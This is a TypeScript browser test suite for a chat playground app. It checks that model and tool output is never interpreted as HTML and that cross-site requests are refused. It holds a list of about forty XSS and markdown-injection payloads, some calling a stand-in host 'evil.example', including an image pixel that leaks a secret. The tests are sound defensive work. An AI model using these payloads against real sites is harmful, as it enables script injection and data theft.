import type { Browser } from 'playwright-core';
import type { Test } from 'tap';
import { Playground } from '../support/playground.js';
import { lookUp, startPlayground } from '../support/server.js';

/**
 * Texts that run a script, or load something, in a page that shows them carelessly. Each would call
 * `attack`.
 */
const PAYLOADS = [
  '<script>attack()</script>',
  '<img src=x onerror=attack()>',
  '<svg onload=attack()>',
  '<svg><script>attack()</script></svg>',
  '<math><mtext></p><style><!--</style><img src=x onerror=attack()>--></math>',
  '<iframe srcdoc="<script>parent.attack()</script>"></iframe>',
  '<object data="javascript:attack()"></object>',
  '<a href="javascript:attack()">link</a>',
  '<form action="javascript:attack()"><button>go</button></form>',
  '<details open ontoggle=attack()>',
  '<style>@import "http://evil.example/x.css";</style>',
  '<link rel=stylesheet href=http://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=http://evil.example/">',
  '<base href=http://evil.example/>',
  '<template><img src=x onerror=attack()></template>',
  '<noscript><p title="</noscript><img src=x onerror=attack()>">',
  '[link](javascript:attack())',
  '[link](JaVaScRiPt:attack())',
  '[link](data:text/html,<script>attack()</script>)',
  '[link](vbscript:attack())',
  '[link](<javascript&colon;attack()>)',
  '<javascript:attack()>',
  '![image](javascript:attack())',
  '![pixel](http://evil.example/pixel.png?secret)',
  '![pixel](//evil.example/pixel.png)',
  '![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImF0dGFjaygpIi8+)',
  '[a]: javascript:attack()\n\n[a]',
  '`<img src=x onerror=attack()>`',
  '```html"onmouseover=attack()\n<img src=x onerror=attack()>\n```',
  '| <img src=x onerror=attack()> |\n| --- |\n| <script>attack()</script> |',
  '# <img src=x onerror=attack()>',
  '```html\n<img src=x onerror=attack()><script>attack()</script>\n```',
  '```js\nconst a = "<img src=x onerror=attack()>"; // <svg onload=attack()>\n```',
  '```__proto__\n<img src=x onerror=attack()>\n```',
  '- [x] <img src=x onerror=attack()>\n- [ ] [link](javascript:attack())',
  '| a |\n| :-: |\n| <td align="x" onclick=attack()> |',
  '- <img src=x onerror=attack()>',
  '\u0000<img src=x onerror=attack()>',
  '<playground-app></playground-app><markdown-text text="x"></markdown-text>',
  '<form id=app><input name=attributes><input name=querySelector></form>',
];

export async function safety(t: Test, browser: Browser): Promise<void> {
  t.test('S-27 text of models, tools, callers and titles is never interpreted as HTML', async (t) => {
    const corpus = PAYLOADS.join('\n\n');
    const app = await startPlayground(t, { lookup: () => corpus });
    const page = await Playground.open(t, browser, app);
    await page.page.evaluate('window.attacks = 0; window.attack = () => window.attacks++');
    app.models.enqueue({ reasoning: corpus, toolCalls: [lookUp('treasure')] }, { text: corpus });
    const turn = await page.ask(`${PAYLOADS[1]} ${corpus}`);
    await page.cards.first().locator('summary').click();
    for (const payload of PAYLOADS) {
      app.models.enqueue({ text: payload });
      await page.ask('Next');
    }
    await page.page.locator('.hljs-name').first().waitFor(); // markup in code is coloured too
    await page.button('Code').click();
    await page.button('Events').click();
    for (const link of await page.page.locator('markdown-text a[href]').all()) {
      t.match(await link.getAttribute('href'), /^https?:\/\//);
      t.equal(await link.getAttribute('rel'), 'noopener noreferrer');
    }
    t.equal(await page.page.evaluate('window.attacks'), 0, 'nothing ran');
    t.same(page.foreignRequests, [], 'nothing was loaded');
    t.same(page.problems, [], 'and no policy had to stop it');
    t.equal(page.page.url().split('#')[0], `${app.url}/playground`, 'the page is still there');
    const forbidden =
      'markdown-text :is(script, iframe, object, form, input, style, link, meta, base, template, svg, [onerror], [onload], [style], [id])';
    t.equal(await page.page.locator(forbidden).count(), 0);
    t.equal(await page.page.locator('markdown-text img').count(), 0);
    t.match(await page.answer(turn), '<script>attack()</script>', 'markup is shown as it was written');
    t.match(await page.cards.first().locator('.tool-body').innerText(), '<script>attack()</script>');
  });

  t.test('S-27 images of the answer itself are shown, remote ones become links', async (t) => {
    const app = await startPlayground(t);
    const page = await Playground.open(t, browser, app);
    const pixel = 'data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==';
    app.models.enqueue({ text: `![dot](${pixel})\n\n![chart](https://images.example/chart.png)` });
    const turn = await page.ask('Draw');
    t.equal(await turn.locator('img').getAttribute('src'), pixel);
    t.equal(await turn.locator('a').getAttribute('href'), 'https://images.example/chart.png');
    t.match(await turn.locator('a').innerText(), /chart/);
    t.same(page.foreignRequests, []);
    t.same(page.problems, []);
  });

  t.test('S-27 a script cannot be injected even by code of the page: trusted types and the policy refuse it', async (t) => {
    const app = await startPlayground(t);
    const page = await Playground.open(t, browser, app);
    const refused = (script: string) =>
      page.page.evaluate(`(() => { try { ${script}; return 'allowed'; } catch (error) { return error.name; } })()`);
    t.equal(await refused('document.body.innerHTML = "<p>x</p>"'), 'TypeError');
    t.equal(await refused('document.createElement("script").src = "x.js"'), 'TypeError');
    t.equal(await refused('trustedTypes.createPolicy("mine", {})'), 'TypeError');
    t.ok(page.problems.length > 0, 'the browser reports each');
  });

  t.test('S-08 a page of another site cannot use the server', async (t) => {
    const app = await startPlayground(t);
    const other = await startPlayground(t);
    const page = await Playground.open(t, browser, other);
    await page.page.route('**/playground', (route) =>
      route.fulfill({ contentType: 'text/html', body: '<title>other site</title>' }),
    );
    await page.page.reload();
    const socket = `new Promise((resolve) => {
      const socket = new WebSocket(${JSON.stringify(`${app.url.replace('http', 'ws')}/v1/live`)});
      socket.onopen = () => resolve('open');
      socket.onerror = () => resolve('refused');
    })`;
    t.equal(await page.page.evaluate(socket), 'refused');
    t.equal(
      await page.page.evaluate(`fetch(${JSON.stringify(`${app.url}/v1/models`)}).then(() => 'read', () => 'refused')`),
      'refused',
    );
  });
}
